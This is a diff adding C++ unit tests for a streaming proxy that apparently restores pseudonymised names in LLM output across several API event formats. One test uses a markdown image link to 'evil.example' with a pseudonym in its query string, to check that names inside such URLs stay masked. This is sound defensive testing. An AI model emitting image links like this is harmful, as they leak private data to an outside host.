@@ -240,6 +240,80 @@ TEST(EventStream, LeavesToTheByteWhatHoldsNoPlaceholder) {
   EXPECT_EQ(passed({Shape::messages, stream, {}}, [](std::size_t) { return std::size_t{9}; }), stream);
 }
 
+std::string passed_whole(Shape shape, const std::string& stream) {
+  return passed({shape, stream, {}}, [&](std::size_t) { return stream.size(); });
+}
+
+TEST(EventStream, KeepsAddressesThatGoOnInALaterPiece) {
+  const std::string link = "![x](https://evil.example/?q=";
+  const std::string rest = "PERSON_1_k7q2) PERSON_1_k7q2.";
+  const std::string end = std::string("PERSON_1_k7q2) ") + kName + ".";
+  EXPECT_EQ(
+      view_of(passed_whole(Shape::chat, event(chat({{"content", link}})) + event(chat({{"reasoning_content", "hm"}})) +
+                                            event(chat({{"content", rest}})) + event(chat(Json::object(), "stop")) +
+                                            "data: [DONE]\n\n"))["content0"],
+      link + end);
+  const auto block = [](int index, const std::string& text) {
+    return event({{"type", "content_block_start"},
+                  {"index", index},
+                  {"content_block", {{"type", "text"}, {"text", ""}}}}) +
+           event({{"type", "content_block_delta"},
+                  {"index", index},
+                  {"delta", {{"type", "text_delta"}, {"text", text}}}}) +
+           event({{"type", "content_block_stop"}, {"index", index}});
+  };
+  View blocks =
+      view_of(passed_whole(Shape::messages, block(0, link) + block(1, rest) + event({{"type", "message_stop"}})));
+  EXPECT_EQ(blocks["text1"], end);
+  const auto part = [](int index, const std::string& text) {
+    const Json place = {{"output_index", 0}, {"content_index", index}};
+    Json delta = place;
+    delta.update({{"type", "response.output_text.delta"}, {"delta", text}});
+    Json done = place;
+    done.update({{"type", "response.output_text.done"}, {"text", text}});
+    return event(delta) + event(done);
+  };
+  View parts =
+      view_of(passed_whole(Shape::responses, part(0, link) + part(1, rest) + event({{"type", "response.completed"}})));
+  EXPECT_EQ(parts["response.output_text.delta"], link + end);
+  EXPECT_EQ(parts["response.output_text.done"], link + end);
+}
+
+TEST(EventStream, KeepsTheOrderOfWhatOneEventSays) {
+  const auto call = [](int index, const std::string& arguments) -> Json {
+    return {{"index", index}, {"function", {{"name", index < 2 ? "mail" : "other"}, {"arguments", arguments}}}};
+  };
+  View view =
+      view_of(passed_whole(Shape::chat, event(chat({{"content", "I ask Person"}, {"tool_calls", {call(2, "{}")}}})) +
+                                            event(chat({{"tool_calls", {call(2, " ")}}})) +
+                                            event(chat(Json::object(), "stop")) + "data: [DONE]\n\n"));
+  EXPECT_EQ(view["content0"], "I ask Person");
+  const auto more = [](int index, const std::string& arguments) -> Json {
+    return {{"index", index}, {"function", {{"arguments", arguments}}}};
+  };
+  view = view_of(
+      passed_whole(Shape::chat, event(chat({{"tool_calls", {call(0, "[\"PERSON_1"), call(1, "[\"PERSON_1")}}})) +
+                                    event(chat({{"tool_calls", {more(0, "_k7q2\"]")}}})) +
+                                    event(chat({{"tool_calls", {more(1, "_k7q2\"]")}}})) +
+                                    event(chat(Json::object(), "stop")) + "data: [DONE]\n\n"));
+  EXPECT_EQ(view["call00"], "mail[\"Ada \\\"A\\\" Smith\"]");
+  EXPECT_EQ(view["call01"], "mail[\"Ada \\\"A\\\" Smith\"]");
+}
+
+TEST(EventStream, RestoresNothingInTheCodeOfUnlistedTools) {
+  const std::string code =
+      event({{"type", "response.code_interpreter_call_code.done"}, {"output_index", 0}, {"code", "PERSON_1_k7q2"}});
+  EXPECT_THAT(passed_whole(Shape::responses, code + event({{"type", "response.completed"}})),
+              testing::HasSubstr("PERSON_1_k7q2"));
+}
+
+TEST(EventStream, TakesAMarkInFrontAndNoEmptyLineAtTheEnd) {
+  const std::string out =
+      passed_whole(Shape::chat, "\xEF\xBB\xBF" + event(chat({{"content", "PERSON_1_k7q2 "}})) + "data: [DONE]\n");
+  EXPECT_EQ(view_of(out)["content0"], std::string(kName) + " ");
+  EXPECT_THAT(out, testing::EndsWith("data: [DONE]\n\n"));
+}
+
 TEST(EventStream, EndsWithAnErrorWhereTheUpstreamDoesNot) {
   const Pseudonyms pseudonyms = one_name();
   const AnswerRules rules;
